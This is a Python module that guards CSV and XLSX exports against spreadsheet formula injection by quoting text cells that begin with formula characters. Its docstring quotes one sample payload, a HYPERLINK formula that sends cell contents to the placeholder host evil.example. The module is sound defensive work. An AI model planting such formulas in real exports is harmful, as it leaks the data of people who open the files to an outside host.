"""Spreadsheet-safe cells: text from users is written as text, never as a formula.

Names, ids and notes come from agency files (and soon from browsers). A destination
named ``=HYPERLINK("http://evil.example/?d="&A1,"klik")`` must not become a live formula
when an officer opens an export in Excel or LibreOffice (CSV / formula injection, see the
OWASP page "CSV Injection"). Every CSV and XLSX writer of the project goes through this
module:

- CSV (:func:`csv_frame`, :func:`csv_text`, :func:`write_csv`): a text cell that starts with ``=``, ``+``,
  ``-``, ``@``, a tab or a carriage return gets a leading ``'``, as OWASP recommends;
- XLSX (:func:`excel_writer`, :func:`text_cells`): every cell holding a Python ``str`` is
  stored as a string cell (openpyxl would store text starting with ``=`` as a formula), and
  text starting with one of those characters also carries ``quotePrefix``, so the
  spreadsheet keeps it as text even when the cell is edited.

Numbers are never touched: a numeric ``-5`` stays the number -5 in both formats.
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any, Final, Literal

import numpy as np
import pandas as pd

# First characters that make a spreadsheet read a cell as a formula (OWASP list).
FORMULA_START: Final = ("=", "+", "-", "@", "\t", "\r")


def risky(value: object) -> bool:
    """True for text a spreadsheet could evaluate as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_START)


def csv_cell(value: Any) -> Any:
    """One CSV cell made safe: risky text gets a leading ``'``; anything else unchanged."""
    return "'" + value if risky(value) else value


def csv_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells (and headers) are safe in a CSV file.

    Only object and string columns are looked at, and only their ``str`` values are
    changed, so numbers stay numbers.
    """
    out = pd.DataFrame(df).copy()
    for pos in range(out.shape[1]):
        s = out.iloc[:, pos]
        if not (pd.api.types.is_object_dtype(s.dtype) or pd.api.types.is_string_dtype(s.dtype)):
            continue
        values = np.asarray(s.astype(object))
        hit = np.fromiter((risky(v) for v in values), dtype=bool, count=len(values))
        if hit.any():
            values = values.copy()
            values[hit] = ["'" + v for v in values[hit]]
            out.isetitem(pos, values)
    out.columns = pd.Index([csv_cell(c) for c in out.columns])
    return out


def csv_text(df: pd.DataFrame, *, bom: bool = False) -> str:
    """``df`` as CSV text (no index) with safe cells; ``bom`` starts it with U+FEFF so that
    Excel opens UTF-8 correctly."""
    return ("\ufeff" if bom else "") + csv_frame(df).to_csv(index=False)


def write_csv(df: pd.DataFrame, path: str | os.PathLike[str]) -> None:
    """Write ``df`` as a UTF-8 CSV file (no index) with safe cells."""
    csv_frame(df).to_csv(Path(path), index=False, encoding="utf-8")


def text_cells(book: Any) -> None:
    """Store every text cell of an openpyxl workbook as a string, never as a formula.

    The workbook is written by this project only, so no cell is meant to be a formula.
    """
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str):
                    if cell.data_type != "s":
                        cell.data_type = "s"
                    if value.startswith(FORMULA_START):
                        cell.quotePrefix = True


@contextmanager
def excel_writer(path: str | os.PathLike[str], *,
                 mode: Literal["w", "a"] = "w") -> Iterator[pd.ExcelWriter]:
    """``pd.ExcelWriter`` (openpyxl) whose cells are made safe by :func:`text_cells` on exit."""
    with pd.ExcelWriter(path, engine="openpyxl", mode=mode) as xw:
        yield xw
        text_cells(xw.book)
